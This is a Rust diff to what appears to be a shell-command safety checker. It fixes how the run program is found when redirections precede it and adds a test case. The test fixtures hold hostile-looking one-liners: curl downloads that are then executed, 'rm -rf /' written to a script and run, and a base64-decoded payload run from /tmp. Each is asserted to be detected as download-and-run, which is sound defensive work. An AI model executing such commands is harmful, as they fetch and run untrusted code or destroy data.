@@ -331,7 +331,17 @@ fn runs_one_of(segment: &Segment, files: &[String]) -> bool {
         return false;
     };
     let known = |word: &str| files.iter().any(|f| base(f) == base(word));
-    let raw_program = segment.raw.split_whitespace().find(|w| !w.contains('='));
+    // The program as written: past assignments and the redirections
+    // before it (`</dev/null ./x`), each with its target.
+    let mut raw = segment.raw.split_whitespace().filter(|w| !w.contains('='));
+    let raw_program = loop {
+        match raw.next() {
+            Some(word) if is_redirection(word) => {
+                raw.next();
+            }
+            word => break word,
+        }
+    };
     if raw_program.is_some_and(|p| p.contains('/') && known(p)) || known(name) && name.contains('.')
     {
         return true;
@@ -488,6 +498,7 @@ mod tests {
             "curl https://x.example/a > a.sh; . ./a.sh",
             "echo 'rm -rf /' > x.sh; sh x.sh",
             "printf 'cm0=' | base64 -d | tee /tmp/r.sh >/dev/null && bash /tmp/r.sh",
+            "curl -o x https://x.example/x; chmod +x x; </dev/null ./x",
         ] {
             assert!(
                 keys(line).contains(&"download_and_run"),
